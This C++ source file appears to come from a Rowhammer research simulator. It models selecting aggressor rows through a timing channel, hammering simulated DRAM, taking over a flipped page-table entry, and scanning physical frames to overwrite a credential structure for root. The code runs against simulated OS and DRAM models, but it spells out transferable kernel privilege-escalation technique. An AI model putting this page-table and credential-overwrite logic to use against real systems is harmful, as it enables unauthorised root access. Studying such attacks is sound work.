// Copyright 2026 The rowambush Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
#include "rowambush/exploit.hpp"

#include <algorithm>
#include <array>
#include <unordered_set>

#include "rowambush/error.hpp"
#include "rowambush/pte.hpp"

namespace rowambush::exploit {

const char* to_string(Status s) {
  switch (s) {
    case Status::none: return "none";
    case Status::flippable_only: return "flippable_only";
    case Status::kernel_privilege: return "kernel_privilege";
    case Status::root_privilege: return "root_privilege";
  }
  return "?";
}

std::optional<Takeover> verify_and_take_pt(os::OsModel& os, const os::MappedRange& range,
                                           VerifyStats* stats) {
  VerifyStats local;
  VerifyStats& st = stats ? *stats : local;
  const uint64_t marker = os.marker();
  const uint64_t n = range.pages();

  os.flush_tlb();
  const std::vector<uint64_t> mismatched = os.scan_markers(range);
  st.mismatches += mismatched.size();
  const std::unordered_set<uint64_t> moved_before(mismatched.begin(), mismatched.end());

  for (uint64_t va : mismatched) {
    const uint64_t entry1 = va + 8;
    auto old_pte = os.read_u64(entry1);
    if (!old_pte) continue;
    if (!os.write_u64(entry1, PteEntry::kUserRw)) continue;
    ++st.probes;
    os.flush_tlb();
    const uint64_t idx1 = (va - range.base) / kPageSize;
    for (uint64_t idx2 = 1; idx2 < n; idx2 += kPtesPerPage) {
      if (idx2 == idx1) continue;
      const uint64_t vb = range.base + idx2 * kPageSize;
      if (moved_before.count(vb)) continue;
      auto val2 = os.read_u64(vb);
      if (!val2 || *val2 != marker) return Takeover{va, vb};
    }
    os.write_u64(entry1, *old_pte);
    os.flush_tlb();
    ++st.restores;
  }
  return std::nullopt;
}

Escalation escalate_root(os::OsModel& os, const Takeover& t, uint32_t pid, uint32_t uid) {
  Escalation out;
  const uint64_t entry1 = t.va + 8;
  auto original = os.read_u64(entry1);
  if (!original) return out;

  constexpr unsigned kWords = kPageSize / 4;
  std::array<uint32_t, kWords> words{};
  const uint64_t frames = os.memory().pages();
  for (uint64_t pfn = 0; pfn < frames && !out.success; ++pfn) {
    ++out.pfns_scanned;
    // A frame never written holds only zeros and cannot carry a nonzero pattern.
    if (uid != 0 && !os.memory().backed(pfn)) continue;
    if (!os.write_u64(entry1, PteEntry::make(pfn))) break;
    os.flush_tlb();
    bool readable = true;
    for (unsigned w = 0; w < kWords / 2; ++w) {
      auto v = os.read_u64(t.vb + w * 8);
      if (!v) {
        readable = false;
        break;
      }
      words[2 * w] = static_cast<uint32_t>(*v);
      words[2 * w + 1] = static_cast<uint32_t>(*v >> 32);
    }
    if (!readable) continue;
    for (unsigned i = 0; i + os::kCredIds <= kWords; ++i) {
      if (!std::all_of(words.begin() + i, words.begin() + i + os::kCredIds,
                       [uid](uint32_t x) { return x == uid; })) {
        continue;
      }
      ++out.pattern_matches;
      const uint64_t at = t.vb + i * 4;
      os.write_u32(at, 0);
      if (os.getuid(pid) == 0) {
        out.success = true;
        out.cred_pfn = pfn;
        break;
      }
      os.write_u32(at, uid);
      ++out.decoys_restored;
    }
  }
  os.write_u64(entry1, *original);
  os.flush_tlb();
  return out;
}

ExploitOutcome hammer_loop(os::OsModel& os, dram::DramModel& dram, const timing::TimingChannel& channel,
                           std::span<const os::BufferPage> pages, const os::MappedRange& range,
                           const HammerLoopConfig& config, Rng& rng) {
  ExploitOutcome out;
  auto raise = [&out](Status s) { out.status = std::max(out.status, s); };

  while (out.rounds < config.rounds_cap) {
    timing::PairSelection sel;
    try {
      sel = channel.select_hammer_pair(pages, rng, config.pair_attempt_cap);
    } catch (const AttemptCapExceeded&) {
      out.pair_attempts += config.pair_attempt_cap;
      out.cap_exceeded = true;
      return out;
    }
    ++out.rounds;
    out.pair_attempts += sel.attempts;
    if (!sel.truth_drsb) ++out.false_pairs;

    std::vector<uint64_t> aggressors{sel.a.paddr};
    if (config.mode != dram::HammerMode::one_location) aggressors.push_back(sel.b.paddr);
    std::vector<dram::InjectedFlip> flips;
    if (config.mode == dram::HammerMode::double_sided) {
      // Double-sided needs rows n-1 and n+1; a timing-selected pair rarely is one.
      try {
        flips = dram.hammer(aggressors, config.reps, config.mode, rng, os.memory());
      } catch (const InvalidArgument&) {
        continue;
      }
    } else {
      flips = dram.hammer(aggressors, config.reps, config.mode, rng, os.memory());
    }
    if (flips.empty()) continue;

    out.flips += flips.size();
    for (const auto& f : flips) {
      if (os.is_pt_page(f.address / kPageSize)) ++out.pt_flips;
    }
    if (out.pt_flips > 0) raise(Status::flippable_only);

    ++out.verify_calls;
    if (auto t = verify_and_take_pt(os, range)) {
      raise(Status::kernel_privilege);
      out.va = t->va;
      out.vb = t->vb;
      if (config.escalate) {
        out.escalation = escalate_root(os, *t, config.pid, config.uid);
        if (out.escalation.success) raise(Status::root_privilege);
      }
      return out;
    }
  }
  out.cap_exceeded = true;
  return out;
}

}  // namespace rowambush::exploit
